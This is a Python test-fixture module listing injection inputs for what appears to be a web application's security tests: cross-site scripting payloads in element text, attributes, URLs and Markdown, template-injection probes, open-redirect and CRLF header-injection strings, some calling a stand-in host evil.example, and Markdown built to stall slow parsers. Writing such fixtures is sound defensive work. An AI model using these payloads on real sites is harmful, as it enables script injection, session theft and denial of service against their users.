"""What people type who want their script to run in somebody else's browser."""

from shared.domain.limits import REQUEST_MAX

MARK = "xq7"  # in each of them, so that a page can be searched for what came of it

# In the text of an element, or out of it.
TEXT = [
    "<script>alert('xq7')</script>",
    "<ScRiPt src=//evil.example/xq7.js></sCrIpT>",
    "<img src=x onerror=alert('xq7')>",
    "<img src=x onerror=alert('xq7')//",
    "<svg/onload=alert('xq7')>",
    "<svg><script>alert('xq7')</script></svg>",
    "<svg><animate onbegin=alert('xq7') attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(`xq7`)>#x'/></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert('xq7')>",
    "<iframe srcdoc='<script>parent.alert(`xq7`)</script>'></iframe>",
    "<iframe src=\"javascript:alert('xq7')\">",
    "<object data=\"javascript:alert('xq7')\">",
    "<embed src=//evil.example/xq7.swf>",
    "<base href=//evil.example/xq7/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/xq7'>",
    "<link rel=stylesheet href=//evil.example/xq7.css>",
    "<style>@import '//evil.example/xq7.css'</style>",
    "<form action=//evil.example/xq7><button>Sign in</button></form>",
    "<button form=x formaction=//evil.example/xq7>Sign in</button>",
    "<body onload=alert('xq7')>",
    "<input autofocus onfocus=alert('xq7')>",
    "<details open ontoggle=alert('xq7')>",
    "<video src=x onerror=alert('xq7')>",
    "<marquee onstart=alert('xq7')>",
    "<a href=\"javascript:alert('xq7')\">xq7</a>",
    "<a href='jav&#x09;ascript:alert(`xq7`)'>xq7</a>",
    "<a href='data:text/html,<script>alert(`xq7`)</script>'>xq7</a>",
    "</textarea><script>alert('xq7')</script>",
    "</title><script>alert('xq7')</script>",
    "</script><script>alert('xq7')</script>",
    "--><script>alert('xq7')</script><!--",
    "]]><script>alert('xq7')</script>",
    "<<script>alert('xq7')//<</script>",
    "<scr<script>ipt>alert('xq7')</scr</script>ipt>",
    "<noscript><p title='</noscript><img src=x onerror=alert(`xq7`)>'>",
    "<template><script>alert('xq7')</script></template><x onclick=alert('xq7')>",
]
# In the value of an attribute, out of its quotes.
VALUE = [
    "\"><script>alert('xq7')</script>",
    "'><script>alert('xq7')</script>",
    "\" onmouseover=\"alert('xq7')",
    "' onmouseover='alert(`xq7`)",
    "\" autofocus onfocus=alert('xq7') x=\"",
    "` onmouseover=alert('xq7') ",
    "x onerror=alert('xq7') ",
]
# As a whole address.
ADDRESS = [
    "javascript:alert('xq7')",
    "JaVaScRiPt:alert('xq7')",
    " javascript:alert('xq7')",
    "java\tscript:alert('xq7')",
    "\x01javascript:alert('xq7')",
    "vbscript:msgbox('xq7')",
    "data:text/html,<script>alert('xq7')</script>",
    "data:image/svg+xml,<svg onload=alert('xq7')>",
    "//evil.example/xq7.png",
    "https://evil.example/xq7.png\" onerror=\"alert('xq7')",
]
# For a template engine; each would show 49.
ENGINE = ["xq7{{7*7}}", "xq7${7*7}", "xq7{%print(7*7)%}", "xq7#{7*7}", "xq7<%= 7*7 %>"]

ALL = TEXT + VALUE + ADDRESS + ENGINE

# Addresses that lead away, though not all of them look like it.
AWAY = [
    "//evil.example",
    "///evil.example",
    "////evil.example/%2e%2e",
    "/\\evil.example",
    "\\\\evil.example",
    "\\/evil.example",
    "/\t/evil.example",
    "\t//evil.example",
    " //evil.example",
    "/\n/evil.example",
    "https://evil.example",
    "https:evil.example",
    "https:/evil.example",
    "HTTPS:///evil.example",
    "http:\\\\evil.example",
    "javascript:alert('xq7')//",
    "data:text/html,xq7",
    "evil.example",
    "@evil.example",
    "/\r\nLocation: https://evil.example",
    "/\r\nSet-Cookie: xq7=1",
    "/\x00/evil.example",
    "/\u2028/evil.example",
    "//evil.example\\@127.0.0.1",
    "//127.0.0.1@evil.example",
    "//[::1",
]

# Markdown that turns into HTML of its own.
MARKDOWN = [
    "[xq7](javascript:alert('xq7'))",
    "[xq7](JaVaScRiPt:alert('xq7'))",
    "[xq7](<javascript:alert('xq7')>)",
    "[xq7](java&#x09;script:alert('xq7'))",
    "[xq7](&#106;avascript:alert('xq7'))",
    "[xq7](\x01javascript:alert('xq7'))",
    "[xq7](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[xq7](vbscript:msgbox('xq7'))",
    "[xq7](file:///etc/passwd)",
    "[xq7](//evil.example 'x\" onmouseover=\"alert(1)')",
    "[xq7][1]\n\n[1]: javascript:alert('xq7')",
    "![xq7](javascript:alert('xq7'))",
    "![xq7\" onerror=\"alert('xq7')](x)",
    "![xq7](x \"' onerror='alert(1)\")",
    "![xq7](data:image/svg+xml,<svg onload=alert('xq7')>)",
    "<javascript:alert('xq7')>",
    "<https://evil.example/\"onmouseover=alert('xq7')>",
    "<a@b.c\"onmouseover=alert('xq7')>",
    "`<script>alert('xq7')</script>`",
    "    <script>alert('xq7')</script>",
    "```\"><script>alert('xq7')</script>\nx\n```",
    "```x\" onmouseover=\"alert('xq7')\nx\n```",
    "<div markdown=1>**<script>alert('xq7')</script>**</div>",
    "<!-- --!><script>alert('xq7')</script> -->",
    "<?php alert('xq7') ?><![CDATA[<script>alert('xq7')</script>]]>",
    "# <img src=x onerror=alert('xq7')>",
    "* <svg onload=alert('xq7')>",
    "> <iframe src=javascript:alert('xq7')>",
    "&lt;script&gt;alert('xq7')&lt;/script&gt;",
    "\\<script>alert('xq7')\\</script>",
    "<a id=viewer name=cookie href=#>xq7</a>",
    "<p class=flash style='position:fixed;inset:0'>xq7</p>",
]

# Markdown that keeps a careless parser busy: linear in its length, or it takes hours.
SLOW = {
    "quotes": "> " * 10_000 + "x",
    "lists": "".join(" " * (2 * n) + "* x\n" for n in range(300)),
    "brackets": "[" * 50_000,
    "links": "[a](" * 20_000,
    "images": "![" * 25_000,
    "emphasis": "*a _b " * 20_000,
    "stars": "*" * 100_000,
    "backticks": "".join("`" * n + "x" for n in range(400)),
    "entities": "&" * 100_000,
    "autolinks": "<a:" * 30_000,
    "references": "".join(f"[{n}]: x\n" for n in range(8_000)) + "[1]" * 8_000,
    "tables": "|a" * 20_000 + "\n" + "|-" * 20_000,
    "nothing": "a" * (REQUEST_MAX - 1024),
    "lines": "a\n" * 50_000,
}
